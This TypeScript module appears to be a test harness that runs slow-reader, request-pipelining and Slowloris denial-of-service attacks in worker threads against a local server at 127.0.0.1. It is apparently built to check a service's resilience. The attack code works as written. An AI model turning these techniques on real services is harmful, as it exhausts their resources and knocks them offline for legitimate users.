import { connect, type Socket } from 'node:net';
import { setPriority } from 'node:os';
import { Worker, workerData } from 'node:worker_threads';
import * as z from 'zod/mini';

/** An attack that runs until its thread ends. */
type Attack = (port: number, tokens: readonly string[]) => void;

const NICE = 10;
const READERS = 64;
const READER_BYTES = 20 * 1024 * 1024;
/** How often a slow reader reads one chunk of at most 64 KB. */
const READ_EVERY_MS = 1000;
/** Status line of a refused request. */
const REFUSED = 'HTTP/1.1 503';
const PIPELINED = 240;
const PIPELINED_BYTES = 80 * 1024;
const DRIPS_PER_SECOND = 12;
const DRIP_EVERY_MS = 500;

const head = (method: string, path: string, headers: Readonly<Record<string, string>>): string =>
  [
    `${method} ${path} HTTP/1.1`,
    'host: feltbook.example',
    ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    '',
    '',
  ].join('\r\n');

/** Two accounts read lists of 20 MB slowly on 64 connections, and reconnect when disconnected. */
const slowReaders: Attack = (port, tokens) => {
  const open = (reader: number): void => {
    const socket = dial(port);
    socket.write(
      head('GET', `/sessions?bytes=${READER_BYTES}`, { authorization: `Bearer ${tokens[reader % 2] ?? ''}` }),
    );
    const reading = setInterval(() => socket.resume(), READ_EVERY_MS);
    socket.on('data', (piece: Buffer) => {
      if (piece.toString('latin1', 0, REFUSED.length) === REFUSED) socket.destroy();
      else socket.pause();
    });
    socket.once('close', () => {
      clearInterval(reading);
      setTimeout(() => open(reader), READ_EVERY_MS);
    });
  };
  for (let reader = 0; reader < READERS; reader += 1) open(reader);
};

/** Two connections each pipeline 240 requests for lists of 80 KB, and never read. */
const pipelining: Attack = (port, tokens) => {
  for (const token of tokens.slice(0, 2)) {
    const call = head('GET', `/sessions?bytes=${PIPELINED_BYTES}`, { authorization: `Bearer ${token}` });
    dial(port).pause().write(call.repeat(PIPELINED));
  }
};

const CHUNKED = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
const LARGE = { 'content-type': 'application/json', 'content-length': '100000' };
/** The start of each request, and the bytes that are then sent slowly. */
const DRIPPING: readonly (readonly [beginning: string, drip: string])[] = [
  [head('POST', '/login', CHUNKED), '1\r\n \r\n'],
  [head('POST', '/login', LARGE), ' '],
  [head('POST', '/auth/refresh', CHUNKED), '1\r\n \r\n'],
  ['POST /login HTTP/1.1\r\nhost: feltbook.example\r\n', 'x-drip: 1\r\n'],
];

/** Slowloris: starts twelve requests of each kind per second without a token, and sends them byte by byte. */
const dripping: Attack = (port) => {
  setInterval(() => {
    for (const [beginning, drip] of DRIPPING) {
      const socket = dial(port).resume();
      socket.write(beginning);
      const drips = setInterval(() => socket.write(drip), DRIP_EVERY_MS);
      socket.once('close', () => clearInterval(drips));
    }
  }, 1000 / DRIPS_PER_SECOND);
};

const ATTACKS = { slowReaders, pipelining, dripping };
export type AttackName = keyof typeof ATTACKS;

const order = z.object({
  attack: z.enum(['slowReaders', 'pipelining', 'dripping']),
  port: z.number(),
  tokens: z.array(z.string()),
});

/** Runs an attack in a worker thread, so that it does not block other clients. @param program calls `attackInWorker` */
export function startAttack(program: string, data: z.output<typeof order>): { stop: () => Promise<number> } {
  const worker = new Worker(program, { workerData: data });
  return { stop: () => worker.terminate() };
}

/** Runs with low priority in this thread only, because real attackers use other machines. */
export function attackInWorker(): void {
  setPriority(NICE);
  const { attack, port, tokens } = order.parse(workerData);
  ATTACKS[attack](port, tokens);
}

function dial(port: number): Socket {
  return connect(port, '127.0.0.1').on('error', () => undefined);
}
